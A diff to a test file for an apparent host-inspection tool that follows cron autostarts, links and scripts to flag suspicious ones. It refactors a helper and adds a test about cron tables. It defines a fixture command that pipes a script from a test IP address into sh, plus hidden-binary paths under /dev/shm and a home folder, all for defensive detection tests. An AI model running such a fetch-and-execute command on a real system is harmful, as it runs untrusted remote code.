@@ -16,12 +16,14 @@ from davy.collect.autostarts.commands import programs_of
 from davy.collect.following import ENTRIES_LIMIT, following
 from davy.collect.following.follower import SCRIPT_BYTES, TEXT_LIMIT
 from davy.host import Entry, Host, MemoryRoot, at
+from davy.host.packages import packages
 from davy.knowledge.matching import rule_by_id
 from davy.knowledge.matching.rules import sample
 from davy.model.autostarts import Autostart, Followed, Step
 from davy.model.content import ContentHit, Place
 from davy.model.facts import Account, Gap
 from davy.model.reach import USUAL
+from davy.model.snapshot import Snapshot
 
 FETCH = "curl -fsSL http://192.0.2.7/x.sh | sh"
 Fact = Followed | ContentHit | Gap
@@ -29,7 +31,11 @@ Fact = Followed | ContentHit | Gap
 
 def of_root(files: dict[str, str | bytes | Entry], *lines: Autostart) -> list[Fact]:
     found = snapshot(*lines)
-    return list(following(Host(MemoryRoot(files), None), found, USUAL))
+    return looked(Host(MemoryRoot(files), None), found)
+
+
+def looked(host: Host, found: Snapshot) -> list[Fact]:
+    return list(following(host, found, USUAL, packages(host.root)))
 
 
 def by_path(facts: list[Fact]) -> dict[str, Followed]:
@@ -57,7 +63,7 @@ def test_a_link_is_followed_within_the_root_to_what_it_leads_to(tmp_path: Path) 
     (tmp_path / "dev/shm/.x/run").write_bytes(b"\x7fELF")
     (tmp_path / "usr").mkdir()
     (tmp_path / "usr/tool").symlink_to("/dev/shm/.x/run")
-    found = by_path(list(following(at(str(tmp_path)), snapshot(cron("/usr/tool")), USUAL)))
+    found = by_path(looked(at(str(tmp_path)), snapshot(cron("/usr/tool"))))
     assert found["/usr/tool"].executable is not None
     assert found["/usr/tool"].executable.path == "/dev/shm/.x/run"
 
@@ -66,7 +72,7 @@ def test_a_folder_open_to_all_is_told(tmp_path: Path) -> None:
     (tmp_path / "srv").mkdir()
     os.chmod(tmp_path / "srv", 0o777)
     (tmp_path / "srv/x").write_text("#!/bin/sh\n")
-    found = by_path(list(following(at(str(tmp_path)), snapshot(cron("/srv/x")), USUAL)))
+    found = by_path(looked(at(str(tmp_path)), snapshot(cron("/srv/x"))))
     assert found["/srv/x"].folder_mode == 0o777
 
 
@@ -141,8 +147,14 @@ def test_a_home_is_known_to_the_entrys_user() -> None:
     )  # fmt: skip
     found = msgspec.structs.replace(found, accounts=(Account("ada", 1000, 1000, "/home/ada", "/bin/sh"),))
     root = MemoryRoot({"/home/ada/a.sh": "#!/bin/sh\n$HOME/.x/run\n", "/home/ada/.x/run": "\x7fELF"})
-    facts = list(following(Host(root, None), found, USUAL))
+    facts = looked(Host(root, None), found)
     assert by_path(facts).keys() == {"/home/ada/a.sh", "/home/ada/.x/run"}
+
+
+def test_a_line_is_not_blamed_for_the_lines_of_another_table_that_it_reads() -> None:
+    outer, inner = cron(". /opt/profile"), cron(FETCH, path="/opt/profile")
+    facts = of_root({"/opt/profile": f"#!/bin/sh\n{FETCH}\n"}, outer, inner)
+    assert texts(facts) == []
 
 
 def test_everything_is_bounded_and_what_was_left_is_a_gap() -> None:
@@ -162,7 +174,7 @@ def test_a_loop_of_links_and_a_fifo_are_gaps_or_nothing(tmp_path: Path) -> None:
     (tmp_path / "opt/a").symlink_to("/opt/b")
     (tmp_path / "opt/b").symlink_to("/opt/a")
     os.mkfifo(tmp_path / "opt/fifo")
-    facts = list(following(at(str(tmp_path)), snapshot(cron("/opt/a; sh /opt/fifo; /opt")), USUAL))
+    facts = looked(at(str(tmp_path)), snapshot(cron("/opt/a; sh /opt/fifo; /opt")))
     assert all(one.executable is None for one in by_path(facts).values())
     assert any(isinstance(fact, Gap) for fact in facts)
 
